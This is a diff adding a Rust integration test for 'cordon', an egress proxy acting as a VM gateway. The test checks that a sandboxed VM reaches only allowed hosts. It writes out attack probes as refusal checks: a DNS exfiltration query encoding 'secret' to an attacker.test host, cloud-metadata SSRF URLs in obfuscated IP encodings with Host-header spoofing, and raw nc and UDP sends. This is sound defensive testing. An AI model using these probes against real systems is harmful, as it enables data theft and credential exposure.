@@ -1,0 +1,322 @@
+//! Transparent mode as a VM gateway (docs/gateway.md), in network namespaces: cordon runs in a "gateway"
+//! namespace with deploy/gateway/cordon-gateway.nft loaded for the link to a "sandbox" namespace standing
+//! in for a VM; the upstreams live in an "internet" namespace and 169.254.169.254 in a "metadata" one.
+//! The gateway forwards packets (as a real one does), so only cordon and the rules stand in the way.
+
+use std::path::PathBuf;
+use std::process::{Child, Stdio};
+use std::time::Duration;
+
+use crate::cli::BIN;
+use crate::netns::{Net, available, resolv_conf};
+use crate::rig::{Upstream, upstream_on};
+use crate::tls_rig::{https_upstream_on, test_ca};
+
+/// The namespaces, the upstreams in them, and a folder for cordon's files.
+pub struct World {
+    pub net: Net,
+    pub api: Upstream,
+    pub plain: Upstream,
+    pub metadata: Upstream,
+    pub dir: tempfile::TempDir,
+}
+
+impl World {
+    pub async fn new() -> World {
+        let net = Net::new();
+        let upstream_ca = test_ca("netns upstream CA");
+        let inet = net.inet_ip();
+        let tls = upstream_ca.server_config(&["api.test", "denied.test"]);
+        let api = https_upstream_on(net.listen(&net.inet, &format!("{inet}:443")), tls);
+        let plain = upstream_on(net.listen(&net.inet, &format!("{inet}:80")));
+        let metadata = upstream_on(net.listen(&net.meta, "169.254.169.254:80"));
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("upstream-ca.pem"), &upstream_ca.pem).unwrap();
+        World {
+            net,
+            api,
+            plain,
+            metadata,
+            dir,
+        }
+    }
+
+    pub fn path(&self, name: &str) -> PathBuf {
+        self.dir.path().join(name)
+    }
+
+    /// A config for sandbox `id` (known by `source`, if given), allowing api.test on 80 and 443.
+    pub fn config(&self, id: &str, listen: &str, source: Option<&str>) -> PathBuf {
+        let d = self.dir.path().display();
+        let inet = self.net.inet_ip();
+        let identity = match source {
+            Some(s) => format!("source_cidrs: [\"{s}\"]"),
+            None => format!("token_sha256: \"{}\"", crate::rig::hash("unused-token")),
+        };
+        let yaml = format!(
+            "{listen}
+audit: {{ path: {d}/audit.log }}
+ca: {{ dir: {d}/cas }}
+upstream: {{ extra_roots: [{d}/upstream-ca.pem] }}
+timeouts: {{ tls_handshake: 2s }}
+network:
+  allow_cidrs: [\"{inet}/32\"]
+  hosts: {{ api.test: [\"{inet}\"], denied.test: [\"{inet}\"] }}
+sandboxes:
+  - id: {id}
+    user: alice
+    policy: p
+    {identity}
+policies:
+  p:
+    allow:
+      - host: api.test
+        ports: [80, 443]
+"
+        );
+        let path = self.path("cordon.yaml");
+        std::fs::write(&path, yaml).unwrap();
+        path
+    }
+
+    /// `cordon ca export`: the sandbox's CA file, for the sandbox's clients to trust.
+    pub fn sandbox_ca(&self, config: &std::path::Path, id: &str) -> PathBuf {
+        let out = std::process::Command::new(BIN)
+            .args(["ca", "export", "--sandbox", id, "--config"])
+            .arg(config)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+        let path = self.path(&format!("{id}-ca.pem"));
+        std::fs::write(&path, out.stdout).unwrap();
+        path
+    }
+
+    /// Every audit record written so far.
+    pub fn audit(&self) -> Vec<serde_json::Value> {
+        std::fs::read_to_string(self.path("audit.log"))
+            .unwrap_or_default()
+            .lines()
+            .filter_map(|l| serde_json::from_str(l).ok())
+            .collect()
+    }
+
+    /// `curl` in the sandbox namespace, its output and exit code.
+    pub fn curl(&self, args: &[&str]) -> (i32, String) {
+        let mut full = vec!["curl", "-sS", "-m", "5"];
+        full.extend_from_slice(args);
+        let out = self.net.exec(&self.net.sbx, &full);
+        let text = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        (out.status.code().unwrap_or(-1), text)
+    }
+}
+
+/// Load the gateway ruleset from deploy/ for the link to the sandbox namespace.
+fn load_rules(net: &Net) {
+    let rules = concat!(env!("CARGO_MANIFEST_DIR"), "/deploy/gateway/cordon-gateway.nft");
+    let vm_if = format!("VM_IF=\"{}\"", net.sbx_if());
+    let ip = format!("CORDON_IP={}", net.gw_ip());
+    net.exec_ok(
+        &net.gw,
+        &[
+            "nft",
+            "-D",
+            &vm_if,
+            "-D",
+            &ip,
+            "-D",
+            "PROXY_PORT=3128",
+            "-D",
+            "TRANSPARENT_PORT=15001",
+            "-D",
+            "DNS_PORT=15053",
+            "-f",
+            rules,
+        ],
+    );
+}
+
+fn start_cordon(w: &World, config: &std::path::Path) -> Child {
+    let mut child = w
+        .net
+        .command(&w.net.gw, BIN)
+        .args(["run", "--config"])
+        .arg(config)
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let proxy = format!("{}:3128", w.net.gw_ip());
+    for _ in 0..100 {
+        if let Ok(Some(status)) = child.try_wait() {
+            let out = child.wait_with_output().unwrap();
+            panic!("cordon exited ({status}): {}", String::from_utf8_lossy(&out.stderr));
+        }
+        if w.net.connectable(&w.net.gw, &proxy) {
+            return child;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    panic!("cordon never listened on {proxy}");
+}
+
+fn dig(w: &World, name: &str, qtype: &str) -> String {
+    let server = format!("@{}", w.net.gw_ip());
+    let out = w
+        .net
+        .exec(&w.net.sbx, &["dig", "+tries=1", "+time=2", &server, name, qtype]);
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_vm_behind_the_gateway_reaches_only_what_its_policy_allows() {
+    if !available("a_vm_behind_the_gateway_reaches_only_what_its_policy_allows") {
+        return;
+    }
+    let w = World::new().await;
+    let net = &w.net;
+    let (inet, gw) = (net.inet_ip(), net.gw_ip());
+    // Before any rule, the gateway routes the sandbox straight to the upstream: the topology is real.
+    assert!(
+        net.connectable(&net.sbx, &format!("{inet}:443")),
+        "the topology does not route"
+    );
+    load_rules(net);
+    let listen = format!("listen: {{ proxy: \"{gw}:3128\", transparent: \"{gw}:15001\", dns: \"{gw}:15053\" }}");
+    let config = w.config("vm1", &listen, Some(&format!("{}/32", net.sbx_ip())));
+    let ca = w.sandbox_ca(&config, "vm1");
+    let ca = ca.to_str().unwrap();
+    let mut cordon = start_cordon(&w, &config);
+    resolv_conf(&net.sbx, &gw);
+
+    // DNS: the allowed name is answered with cordon's resolution; others are refused, metadata too.
+    assert!(dig(&w, "api.test", "A").contains(&inet), "{}", dig(&w, "api.test", "A"));
+    assert!(dig(&w, "denied.test", "A").contains("REFUSED"));
+    assert!(dig(&w, "metadata.google.internal", "A").contains("REFUSED"));
+    assert!(dig(&w, "exfil-c2VjcmV0.attacker.test", "TXT").contains("REFUSED"));
+    // Any DNS server the VM names is answered by cordon (port 53 is redirected to the responder).
+    let elsewhere = w.net.exec(
+        &net.sbx,
+        &["dig", "+tries=1", "+time=2", "@198.51.100.53", "denied.test"],
+    );
+    assert!(String::from_utf8_lossy(&elsewhere.stdout).contains("REFUSED"));
+
+    // The allowed host over HTTPS, intercepted with the sandbox's CA, by name through cordon's DNS.
+    let (code, body) = w.curl(&["--cacert", ca, "https://api.test/hello"]);
+    assert_eq!((code, body.trim()), (0, "hello from upstream"));
+    // And plain HTTP, by Host.
+    let (code, body) = w.curl(&["http://api.test/plain"]);
+    assert_eq!((code, body.trim()), (0, "hello from upstream"));
+    assert!(w.plain.seen().iter().any(|s| s.uri == "/plain"));
+
+    // A denied host, even at the allowed host's address: closed, nothing reaches the upstream.
+    let before = w.api.accepted();
+    let resolve = format!("denied.test:443:{inet}");
+    let (code, _) = w.curl(&["--cacert", ca, "--resolve", &resolve, "https://denied.test/"]);
+    assert_ne!(code, 0);
+    // Straight to the upstream's address: no SNI, no host to decide on, closed.
+    let (code, _) = w.curl(&["-k", &format!("https://{inet}/hello")]);
+    assert_ne!(code, 0);
+    // A port the upstream has but no rule allows, with something that is not HTTP or TLS.
+    let raw = net.exec(
+        &net.sbx,
+        &[
+            "sh",
+            "-c",
+            &format!("printf 'SSH-2.0-x\\r\\n' | timeout 3 nc {inet} 443; echo rc=$?"),
+        ],
+    );
+    assert!(!String::from_utf8_lossy(&raw.stdout).contains("hello"));
+    assert_eq!(w.api.accepted(), before, "a refused connection reached the upstream");
+
+    // Metadata: by IP, in other encodings, and with a Host header naming an allowed host.
+    for url in [
+        "http://169.254.169.254/latest/meta-data/",
+        "http://2852039166/latest/meta-data/",
+        "http://0xA9FEA9FE/latest/meta-data/",
+        "http://0251.0376.0251.0376/latest/meta-data/",
+    ] {
+        let (_, text) = w.curl(&["-i", url]);
+        assert!(!text.contains("hello from upstream"), "{url}: {text}");
+    }
+    // SECURITY: cordon dials its own resolution of the Host, never the address the sandbox chose.
+    let (_, text) = w.curl(&["-H", "Host: api.test", "http://169.254.169.254/latest/meta-data/"]);
+    assert_eq!(text.trim(), "hello from upstream");
+    assert_eq!(w.metadata.accepted(), 0, "the metadata address was reached");
+
+    // UDP (QUIC included) and ICMP to anywhere are dropped.
+    let sink = net.udp(&net.inet, &format!("{inet}:9999"));
+    sink.set_read_timeout(Some(Duration::from_millis(700))).unwrap();
+    let quic = net.udp(&net.inet, &format!("{inet}:443"));
+    quic.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
+    net.exec(
+        &net.sbx,
+        &[
+            "sh",
+            "-c",
+            &format!("echo x > /dev/udp/{inet}/9999; echo q > /dev/udp/{inet}/443"),
+        ],
+    );
+    let mut buf = [0u8; 16];
+    assert!(sink.recv_from(&mut buf).is_err(), "UDP left the sandbox");
+    assert!(quic.recv_from(&mut buf).is_err(), "UDP/443 (QUIC) left the sandbox");
+    let ping = net.exec(&net.sbx, &["ping", "-c", "1", "-W", "1", &inet]);
+    assert!(!ping.status.success(), "ICMP left the sandbox");
+    // The gateway host's own services (an sshd, say) are out of reach: the connection lands on cordon.
+    let sshd = net.listen(&net.gw, &format!("{gw}:2222"));
+    let (code, _) = w.curl(&[&format!("http://{gw}:2222/")]);
+    assert_eq!(code, 0, "cordon answers (with a refusal) instead of the host's service");
+    assert!(
+        tokio::time::timeout(Duration::from_millis(300), sshd.accept())
+            .await
+            .is_err(),
+        "the host's service was reached"
+    );
+
+    // The audit says what happened, with the address the sandbox chose.
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let records = w.audit();
+    let transparent: Vec<_> = records.iter().filter(|r| r["kind"] == "transparent").collect();
+    assert!(
+        transparent
+            .iter()
+            .any(|r| r["host"] == "api.test" && r["decision"] == "allow" && r["original_dst"] == format!("{inet}:443")),
+        "{transparent:#?}"
+    );
+    assert!(
+        transparent
+            .iter()
+            .any(|r| r["host"] == "denied.test" && r["reason"] == "no_rule")
+    );
+    assert!(transparent.iter().any(|r| r["reason"] == "no_sni"));
+    assert!(transparent.iter().any(|r| r["reason"] == "not_tls_or_http"));
+    assert!(
+        records
+            .iter()
+            .any(|r| r["kind"] == "dns" && r["host"] == "denied.test" && r["decision"] == "deny")
+    );
+    assert!(
+        records
+            .iter()
+            .any(|r| r["kind"] == "dns" && r["host"] == "api.test" && r["decision"] == "allow")
+    );
+    assert!(
+        records
+            .iter()
+            .any(|r| r["kind"] == "http" && r["host"] == "169.254.169.254" && r["decision"] == "deny")
+    );
+    assert!(
+        records.iter().any(|r| r["kind"] == "http"
+            && r["original_dst"] == "169.254.169.254:80"
+            && r["host"] == "api.test"
+            && r["original_dst_differs"] == true
+            && r["dialled"] == format!("{inet}:80")),
+        "{records:#?}"
+    );
+    let _ = cordon.kill();
+    let _ = cordon.wait();
+}
